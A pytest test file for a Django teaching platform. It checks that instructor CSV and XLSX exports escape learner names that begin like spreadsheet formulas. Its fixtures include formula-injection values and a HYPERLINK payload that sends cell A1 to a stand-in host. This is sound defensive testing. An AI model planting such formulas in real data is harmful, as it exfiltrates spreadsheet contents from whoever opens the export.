"""Every export an instructor downloads opens in a spreadsheet as data: learners named like
formulas (=1+1, +1+1, -2+3, @A1, a tab or a carriage return first) never become formulas."""
from __future__ import annotations

import io
import re

import pytest
import tablib
from openpyxl import load_workbook

from instructors.spreadsheet import formula_safe, formula_safe_dataset
from lessons.models import Enrollment
from tests.conftest import UserFactory
from tests.instructors.conftest import submit

pytestmark = pytest.mark.django_db

ADMIN = "/en/admin"
HOSTILE = ["=1+1", "+1+1", "-2+3", "@A1", "\t=1", "\r=1"]
HOSTILE_NAME = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"


@pytest.fixture
def hostile(world):
    """Learners of cohort A whose usernames (and one first name) are formulas, each with a submission."""
    for n, username in enumerate(HOSTILE):
        learner = UserFactory(username=username, first_name=HOSTILE_NAME if n == 0 else "")
        Enrollment.objects.create(cohort=world.cohort_a, user=learner)
        submit(learner, world.exercise, "failed", failed=["keys-match"])
    return world


@pytest.fixture
def as_teacher_a(client, hostile):
    client.force_login(hostile.teacher_a)
    return client


def no_formula_after_a_spreadsheet_round_trip(workbook_bytes: bytes) -> list:
    """Every cell of every sheet, after openpyxl reads the workbook back; fails on a formula cell."""
    cells = []
    for sheet in load_workbook(io.BytesIO(workbook_bytes)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def csv_through_a_spreadsheet(body: bytes) -> list:
    """Load the CSV as a spreadsheet would (tablib), save it as XLSX and read it back with openpyxl
    (no formula may appear); the CSV's own cells, as parsed."""
    data = tablib.Dataset().load(body.decode("utf-8-sig"), format="csv")
    no_formula_after_a_spreadsheet_round_trip(data.export("xlsx"))
    return [*data.headers, *(cell for row in data for cell in row)]


def assert_every_text_cell_is_inert(cells: list):
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)


def assert_hostile_learners_shown_quoted(cells: list):
    # XML (XLSX) reads a bare carriage return back as a line feed.
    cells = [cell.replace("\n", "\r") if isinstance(cell, str) else cell for cell in cells]
    for username in HOSTILE:
        assert "'" + username in cells, username
    assert "'" + HOSTILE_NAME in cells


def submission_export(client, fmt: str) -> bytes:
    form = client.get(f"{ADMIN}/grader/submission/export/").content.decode()
    formats = dict((label.lower(), value) for value, label in
                   re.findall(r'<option value="(\d+)"[^>]*>\s*(csv|xlsx)\s*</option>', form))
    data = {"format": formats[fmt], "resource": "0"}
    for name in set(re.findall(r'name="(submissionresource_[a-z_]+)"', form)):
        data[name] = "on"
    response = client.post(f"{ADMIN}/grader/submission/export/", data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_the_progress_csv_opens_without_a_formula(as_teacher_a, hostile):
    response = as_teacher_a.get(f"{ADMIN}/lessons/cohort/{hostile.cohort_a.pk}/progress/export.csv")
    assert response.status_code == 200
    cells = csv_through_a_spreadsheet(response.content)
    assert_every_text_cell_is_inert(cells)
    assert_hostile_learners_shown_quoted(cells)
    assert "alice-a" in cells and "佐藤 花子" in cells  # ordinary names untouched


def test_the_progress_xlsx_holds_no_formula(as_teacher_a, hostile):
    response = as_teacher_a.get(f"{ADMIN}/lessons/cohort/{hostile.cohort_a.pk}/progress/export.xlsx")
    cells = no_formula_after_a_spreadsheet_round_trip(response.content)
    assert_every_text_cell_is_inert(cells)
    assert_hostile_learners_shown_quoted(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_submission_export_holds_no_formula(as_teacher_a, hostile, fmt):
    body = submission_export(as_teacher_a, fmt)
    if fmt == "csv":
        assert body.startswith(b"\xef\xbb\xbf")
        cells = csv_through_a_spreadsheet(body)
    else:
        cells = no_formula_after_a_spreadsheet_round_trip(body)
    assert_every_text_cell_is_inert(cells)
    assert_hostile_learners_shown_quoted(cells)
    assert "alice-a" in cells and "bob-b" not in cells


def test_the_xlsx_submission_export_keeps_scores_as_numbers(as_teacher_a, hostile):
    sheet = load_workbook(io.BytesIO(submission_export(as_teacher_a, "xlsx"))).active
    headers = [cell.value for cell in sheet[1]]
    scores = [row[headers.index("score")].value for row in sheet.iter_rows(min_row=2)]
    assert scores and all(isinstance(score, (int, float)) for score in scores), scores


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("alice-a", "alice-a"), ("花子", "花子"), ("", ""),
    (-3, -3), (0.5, 0.5), (None, None), ("'=1", "'=1"),
])
def test_formula_safe_quotes_only_text_that_starts_like_a_formula(value, expected):
    assert formula_safe(value) == expected
    assert formula_safe(formula_safe(value)) == expected  # escaping twice changes nothing more


def test_a_safe_dataset_keeps_title_and_escapes_headers():
    data = tablib.Dataset(["=A1", 2], headers=["@h", "n"], title="=cohort")
    safe = formula_safe_dataset(data)
    assert safe.headers == ["'@h", "n"] and safe[0] == ("'=A1", 2) and safe.title == "=cohort"


def test_the_export_command_with_the_submission_resource_writes_no_formula(hostile):
    from django.core.management import call_command

    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    call_command("export", "CSV", "instructors.admin.submissions.SubmissionResource", stdout=out)
    out.flush()
    cells = csv_through_a_spreadsheet(out.buffer.getvalue())
    assert_every_text_cell_is_inert(cells)
    for username in HOSTILE:
        assert "'" + username in cells, username
